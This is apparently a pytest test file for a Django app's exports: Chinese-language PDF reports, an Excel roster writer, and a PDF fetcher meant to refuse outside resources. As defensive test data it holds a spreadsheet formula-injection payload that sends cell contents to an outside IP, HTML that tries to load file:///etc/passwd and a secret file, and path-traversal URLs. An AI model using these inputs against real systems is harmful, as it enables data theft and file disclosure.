"""Export plumbing: the Chinese PDF, the fetcher that refuses foreign URLs, the Excel writer, the download view."""

import io
import socket
import threading

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from stations.exports.pdf import render_pdf
from stations.exports.xlsx import XlsxWriter, csv_escape
from stations.models import AuditEntry
from stations.tests.factories import WorkstationFactory

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://10.0.0.9/?"&A1,"x")', "@SUM(1+1)", "+1", "-1", "＝1+1", "\tx"]


def pdf_text(content: bytes) -> str:
    return "".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def embedded_fonts(content: bytes) -> set[str]:
    """Base names of the fonts whose programs are embedded in the PDF."""
    fonts = set()
    for page in PdfReader(io.BytesIO(content)).pages:
        for ref in (page["/Resources"].get("/Font") or {}).values():
            font = ref.get_object()
            descendants = [d.get_object() for d in font.get("/DescendantFonts", [])] or [font]
            for descendant in descendants:
                descriptor = descendant["/FontDescriptor"].get_object()
                if any(key in descriptor for key in ("/FontFile", "/FontFile2", "/FontFile3")):
                    fonts.add(str(font["/BaseFont"]).split("+")[-1])
    return fonts


def test_profile_pdf_has_the_chinese_station_name_and_embeds_a_cjk_font(world, client_as):
    station = world.a.station
    response = client_as(world.user("staff")).get(
        reverse("stations:export-download", args=["workstation-profile"]), {"workstation": station.pk}
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert "attachment" in response["Content-Disposition"]
    text = pdf_text(response.content)
    assert station.name in text
    assert "六项制度" in text and "第 1 页 / 共 1 页" in text
    assert "Noto-Sans-CJK-SC" in embedded_fonts(response.content)
    entry = AuditEntry.objects.get(action="export.download")
    assert entry.actor_username == world.user("staff").username
    assert entry.changes["report"] == "workstation-profile"


def test_profile_pdf_of_another_province_is_404(world, client_as):
    response = client_as(world.user("county")).get(
        reverse("stations:export-download", args=["workstation-profile"]), {"workstation": world.z.station.pk}
    )
    assert response.status_code == 404
    assert not AuditEntry.objects.filter(action="export.download").exists()


class Listener:
    """A local TCP server that records whether anything connected to it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.running = True
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while self.running:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.running = False
        self.thread.join()
        self.sock.close()


def test_pdf_fetcher_refuses_network_and_foreign_files(settings, tmp_path):
    listener = Listener()
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER")
    settings.TEMPLATES = [{**settings.TEMPLATES[0], "DIRS": [*settings.TEMPLATES[0]["DIRS"], tmp_path]}]
    (tmp_path / "hostile.html").write_text(
        '{% extends "stations/pdf/base.html" %}{% block content %}<p>报告正文</p>'
        f'<img src="http://127.0.0.1:{listener.port}/x.png">'
        f'<link rel="stylesheet" href="http://127.0.0.1:{listener.port}/a.css">'
        f'<img src="file://{secret}"><object data="file:///etc/passwd"></object>'
        '<img src="/static/../../../../etc/passwd">{% endblock %}',
        encoding="utf-8",
    )
    try:
        content = render_pdf("hostile.html", {"title": "t"})
    finally:
        listener.close()
    assert listener.connections == 0
    assert "报告正文" in pdf_text(content)
    assert b"TOP-SECRET-MARKER" not in content
    assert b"root:x:0:0" not in content


def test_roster_excel_has_a_cover_sheet_and_no_formulas(world, client_as):
    for index, name in enumerate(HOSTILE):
        WorkstationFactory(county=world.a.county, name=name, code=f"H{index}")
    response = client_as(world.user("county")).get(
        reverse("stations:export-download", args=["workstation-roster"]), {"county": world.a.county.pk}
    )
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["说明", "工作站名册"]
    cover = [row for row in workbook["说明"].iter_rows(values_only=True)]
    assert any(row[0] == "导出人" and world.user("county").username in row[1] for row in cover)
    sheet = workbook["工作站名册"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert set(HOSTILE) <= set(names)  # text kept exactly, no stacked quotes
    assert world.b.station.name not in names
    entry = AuditEntry.objects.get(action="export.download")
    assert entry.changes["rows"] == len(HOSTILE) + 1


def test_roster_of_a_county_outside_scope_is_404(world, client_as):
    response = client_as(world.user("county")).get(
        reverse("stations:export-download", args=["workstation-roster"]), {"county": world.b.county.pk}
    )
    assert response.status_code == 404


def test_unknown_report_is_404(world, client_as):
    assert client_as(world.user("prov")).get(reverse("stations:export-download", args=["nope"])).status_code == 404


def test_csv_escape_prefixes_formula_cells_once():
    assert csv_escape("=1+1") == "'=1+1"
    assert csv_escape("'=1+1") == "'=1+1"
    assert csv_escape("＠x") == "'＠x"
    assert csv_escape("张三") == "张三"
    assert csv_escape(5) == 5


def test_xlsx_writer_writes_dates_and_numbers_as_values(world):
    from datetime import date

    writer = XlsxWriter(title="测试", user=world.user("prov"))
    writer.sheet("数据", ["日期", "数量"], [[date(2025, 1, 2), 3]])
    sheet = load_workbook(io.BytesIO(writer.to_bytes()))["数据"]
    assert sheet["A2"].value.date() == date(2025, 1, 2)
    assert sheet["B2"].value == 3


def test_pdf_fetcher_serves_project_and_app_static_files_only():
    from stations.exports.pdf import PDF_BASE_URL, resolve_local

    assert resolve_local(PDF_BASE_URL + "static/css/pdf.css") is not None
    assert resolve_local(PDF_BASE_URL + "static/admin/css/base.css") is not None  # an app's static folder
    assert resolve_local(PDF_BASE_URL + "static/../../config/settings.py") is None
    assert resolve_local(PDF_BASE_URL + "static/%2e%2e/%2e%2e/config/settings.py") is None
    assert resolve_local(PDF_BASE_URL + "media/../config/settings.py") is None
    assert resolve_local("http://127.0.0.1:8000/static/css/pdf.css") is None


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_every_formula_prefix_is_written_as_text_in_a_real_xlsx(world, prefix):
    """OUT-3 is the project's own writer's job (django-import-export is not installed): read back with
    openpyxl, the cell is a string with exactly the text written, never a formula."""
    from django.conf import settings

    assert "import_export" not in settings.INSTALLED_APPS
    text = f'{prefix}HYPERLINK("http://10.0.0.9/?"&A1,"x")'
    writer = XlsxWriter(title=text, user=world.user("prov"), filters={"名称": text})
    writer.sheet("数据", ["名称"], [[text], [prefix + "1+1"]])
    workbook = load_workbook(io.BytesIO(writer.to_bytes()))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    data = workbook["数据"]
    read = text.replace("\r", "\n")  # XML parsers normalise a bare CR to LF: still text, not a formula
    assert data["A2"].value == read and data["A3"].value == (prefix + "1+1").replace("\r", "\n")
    assert workbook["说明"]["A1"].value == read
